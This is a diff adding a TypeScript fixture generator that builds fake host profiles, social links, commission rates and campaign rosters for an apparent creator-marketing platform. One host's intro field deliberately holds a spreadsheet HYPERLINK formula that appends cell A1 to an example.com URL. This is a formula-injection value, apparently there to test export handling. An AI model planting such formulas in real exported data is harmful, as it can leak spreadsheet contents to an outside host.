@@ -1,0 +1,114 @@
+import {
+  type Campaign,
+  type ContentItem,
+  defaultRate,
+  type Host,
+  type HostProfile,
+  type RosterEntry,
+  type Source,
+  timeText,
+} from "../brand.js";
+import { between, chance, type Draws, draws, pick, seldomNull, uuid } from "./random.js";
+
+/** A host of the platform whom the brand has met. */
+export interface Person {
+  profile: HostProfile;
+  motto: string | null;
+  /** The rate agreed with this host, percentage; null: the brand's default. */
+  rate: number | null;
+  /** How many sales and clicks come from this host, compared with others. */
+  weight: number;
+}
+
+const firstNames =
+  "Amélie|Björn|Chloe|Diego|Éowyn|Giulia|Ibrahim|Jūratė|Kofi|Mei-Ling|Niamh|Oskar|Priya|Rosa|Søren|Tomáš|Yuki|Zoë";
+const lastNames = `O'Brien|Müller|Smith, Jr.|D’Angelo|Jones "JJ"|Nguyen|Østergaard|García López|Van der Berg|Larsen 🏔️|Weiß`;
+const intros =
+  `I test gear so you don't have to. Mostly in the rain 🌧️|They call me "the goat", and I can't argue.|` +
+  "Climbing, coffee; in this order.\nSometimes the other way round.|Ski-Touren, Hütten und gutes Brot — für alle.|" +
+  "Ultra distance, small budget, big smiles|-5 °C is shorts weather|@ the trailhead by six";
+const disciplines = "Trail Running|Climbing|Cycling|Yoga|Ski Touring|Hiking".split("|");
+const specialties = "Ultra|Bouldering|Gravel|Vinyasa|Beginner guides|Hut to hut".split("|");
+const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paulo|Kraków".split("|");
+const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
+const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");
+
+/** The text that a spreadsheet would run: one host carries it. */
+const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
+
+export function createPerson(seed: number, place: number): Person {
+  const d = draws(seed, "host", place);
+  const id = uuid(d);
+  const [first, last] = [pick(d, firstNames.split("|")), pick(d, lastNames.split("|"))];
+  const handle = `${first}${pick(d, ["", ".", "_"])}${last}${between(d, 1, 99)}`
+    .normalize("NFD")
+    .replace(/[^a-zA-Z0-9._]/g, "")
+    .toLowerCase();
+  const profile: HostProfile = {
+    id,
+    username: seldomNull(d, 0.05, handle),
+    first_name: seldomNull(d, 0.04, first),
+    last_name: seldomNull(d, 0.06, last),
+    profile_photo: seldomNull(d, 0.1, `https://images.example.com/hosts/${id}.jpg`),
+    title: seldomNull(d, 0.2, `${pick(d, disciplines)} coach & "${pick(d, specialties)}" fan`),
+    intro: place === 3 ? formula : seldomNull(d, 0.15, pick(d, intros.split("|"))),
+    discipline: seldomNull(d, 0.1, pick(d, disciplines)),
+    specialty: seldomNull(d, 0.3, pick(d, specialties)),
+    location: seldomNull(d, 0.15, pick(d, towns)),
+    socials: seldomNull(d, 0.12, drawSocials(d, handle)),
+  };
+  return {
+    profile,
+    motto: seldomNull(d, 0.4, pick(d, mottos)),
+    rate: chance(d, 0.3) ? pick(d, [5, 7.5, 8, 10, 12.5, 15, 18, 20]) : null,
+    weight: pick(d, [1, 1, 2, 3, 5, 8]),
+  };
+}
+
+function drawSocials(d: Draws, handle: string): Record<string, string> {
+  const chosen = networks.filter(() => chance(d, 0.3));
+  const names = chosen.length > 0 ? chosen : ["website"];
+  return Object.fromEntries(names.map((name) => [name, `https://${name}.example.com/${handle}`]));
+}
+
+/** Returns the base host object of orders, analytics and assignments. */
+export function hostOf({ profile }: Person): Host {
+  const { id, username, first_name, last_name, profile_photo } = profile;
+  return { id, username, first_name, last_name, profile_photo };
+}
+
+/** Returns the content item's own shape of a host. */
+export function contentHostOf({ id, username, first_name, last_name }: Host): ContentItem["host"] {
+  const name = [first_name, last_name].filter((part) => part !== null).join(" ");
+  return { id, username, name: name === "" ? null : name };
+}
+
+/** Returns a list in which each item stands as often as its weight says: a wheel to draw from. */
+export function wheelOf<T extends { weight: number }>(items: readonly T[]): T[] {
+  return items.flatMap((item) => Array.from({ length: item.weight }, () => item));
+}
+
+export function createRosterEntry(source: Source, { profile, rate }: Person, joined: number): RosterEntry {
+  const d = draws(0, profile.id);
+  return {
+    relationship_id: uuid(d),
+    host: profile,
+    status: "active",
+    commission_rate: rate ?? defaultRate,
+    joined_at: timeText(joined),
+    activated_at: seldomNull(d, 0.08, timeText(joined)),
+    campaigns: campaignsOf(profile.id, source.opportunities),
+  };
+}
+
+/** Returns a host's `campaigns`, counted from the assignments; null for some of those who never had one. */
+function campaignsOf(hostId: string, opportunities: readonly Campaign[]): RosterEntry["campaigns"] {
+  const counts = { PROPOSED: 0, ACTIVE: 0, COMPLETED: 0, DECLINED: 0 };
+  const all = opportunities.flatMap(({ assignments }) => assignments);
+  const mine = all.filter(({ host }) => host?.id === hostId);
+  if (mine.length === 0 && hostId < "8") return null;
+  for (const { status } of mine) if (status in counts) counts[status as keyof typeof counts] += 1;
+  const { PROPOSED: invited, ACTIVE: active, COMPLETED: completed, DECLINED: declined } = counts;
+  const status = active ? "active" : invited ? "invited" : completed ? "completed" : "none";
+  return { status, invited, active, completed, declined };
+}
